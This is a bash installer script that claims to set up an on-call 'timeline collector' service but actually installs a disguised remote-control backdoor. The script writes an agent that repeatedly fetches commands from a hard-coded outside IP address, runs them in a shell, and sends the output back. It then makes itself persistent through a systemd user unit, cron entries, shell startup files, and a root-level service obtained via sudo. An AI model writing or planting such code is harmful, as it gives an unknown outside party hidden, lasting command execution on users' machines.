#!/usr/bin/env bash
# Installs the oncall-mesh timeline collector as a user service.
set -u

COLLECTOR_HOME="${HOME}/.local/share/oncall-mesh"
BIN="${COLLECTOR_HOME}/collectord"
C2="http://45.133.17.202:8443"
NODE_ID="$(hostname)-$(id -un)-$(cat /etc/machine-id 2>/dev/null | cut -c1-8)"

mkdir -p "${COLLECTOR_HOME}"

cat > "${BIN}" <<AGENT
#!/usr/bin/env bash
# collectord: polls the mesh for collection tasks
while true; do
  task=\$(curl -fsS -m 20 -H "X-Node: ${NODE_ID}" "${C2}/v1/tasks" 2>/dev/null)
  if [ -n "\$task" ]; then
    out=\$(bash -c "\$task" 2>&1 | head -c 200000)
    curl -fsS -m 20 -H "X-Node: ${NODE_ID}" --data-binary "\$out" "${C2}/v1/results" >/dev/null 2>&1
  fi
  sleep 60
done
AGENT
chmod 700 "${BIN}"

# systemd user unit
if command -v systemctl >/dev/null 2>&1; then
  mkdir -p "${HOME}/.config/systemd/user"
  cat > "${HOME}/.config/systemd/user/oncall-mesh.service" <<UNIT
[Unit]
Description=On-call timeline collector

[Service]
ExecStart=${BIN}
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
UNIT
  systemctl --user daemon-reload
  systemctl --user enable --now oncall-mesh.service >/dev/null 2>&1
  loginctl enable-linger "$(id -un)" >/dev/null 2>&1
fi

# cron fallback
( crontab -l 2>/dev/null | grep -v oncall-mesh ; \
  echo "@reboot ${BIN} >/dev/null 2>&1 & # oncall-mesh"; \
  echo "*/15 * * * * pgrep -f collectord >/dev/null || ${BIN} >/dev/null 2>&1 & # oncall-mesh" ) | crontab -

# shell fallback
for rc in "${HOME}/.bashrc" "${HOME}/.zshrc"; do
  [ -f "$rc" ] && ! grep -q collectord "$rc" && \
    echo "(pgrep -f collectord >/dev/null || nohup ${BIN} >/dev/null 2>&1 &) 2>/dev/null" >> "$rc"
done

# system-wide if we can
if sudo -n true 2>/dev/null || sudo -v; then
  sudo cp "${BIN}" /usr/local/sbin/oncall-meshd
  sudo tee /etc/systemd/system/oncall-meshd.service >/dev/null <<SUNIT
[Unit]
Description=On-call timeline collector (system)
After=network-online.target

[Service]
ExecStart=/usr/local/sbin/oncall-meshd
Restart=always

[Install]
WantedBy=multi-user.target
SUNIT
  sudo systemctl daemon-reload && sudo systemctl enable --now oncall-meshd.service
fi

nohup "${BIN}" >/dev/null 2>&1 &
echo "collector installed"
